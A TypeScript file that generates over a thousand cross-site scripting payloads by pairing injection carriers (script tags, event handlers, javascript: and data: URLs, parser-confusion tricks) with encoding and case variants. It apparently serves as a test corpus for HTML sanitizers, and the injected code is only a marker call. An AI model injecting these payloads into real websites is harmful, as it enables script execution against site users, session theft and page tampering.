// Ways to smuggle a script into a page: every carrier with every way to write what it runs.

const RUN = 'hit()'

const CARRIERS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<SCRIPT/x>${code}</SCRIPT >`,
  (code) => `"><script>${code}</script>`,
  (code) => `'><svg/onload=${code}>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src=x onerror="${code}"//`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<body onload=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}></select>`,
  (code) => `<marquee onstart=${code}>x</marquee>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<object data="data:text/html,<script>parent.${code}</script>"></object>`,
  (code) => `<embed src="data:text/html,<script>parent.${code}</script>">`,
  (code) => `<a href="javascript:${code}" id=x>x</a>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<template><img src=x onerror=${code}></template><img src=x onerror=${code}>`,
  (code) => `<style>@import 'javascript:${code}'</style>`,
  (code) => `<link rel=stylesheet href="javascript:${code}">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href="javascript:${code}//"><a href=x>x</a>`,
  (code) => `<div style="background:url(javascript:${code})">x</div>`,
  (code) => `<x onclick=${code} tabindex=1 autofocus onfocus=${code}>x</x>`,
  (code) => `--><script>${code}</script><!--`,
  (code) => `]]><script>${code}</script>`,
  (code) => `\${${code}}{{constructor.constructor('${code}')()}}`,
  (code) => `</textarea></title></style><img src=x onerror=${code}>`,
]

const WRITINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('HIT()', RUN),
  (text) => text.replaceAll('<', '< '),
  (text) => text.replace(' ', '\t'),
  (text) => text.replace('=', ' = '),
  (text) => text.replaceAll('on', 'oN'),
  (text) => `${text}${text}`,
  (text) => text.replaceAll('>', '\u0000>').replaceAll('\u0000', ''),
  (text) => `&lt;p&gt;${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;'),
  (text) => `<!DOCTYPE x>${text}`,
]

const CODES: readonly string[] = [RUN, `window['hit']()`, 'top.hit`1`']

/** More than a thousand, no two alike. */
export const PAYLOADS: readonly string[] = [
  ...new Set(CARRIERS.flatMap((carrier) => WRITINGS.flatMap((writing) => CODES.map((code) => writing(carrier(code)))))),
]
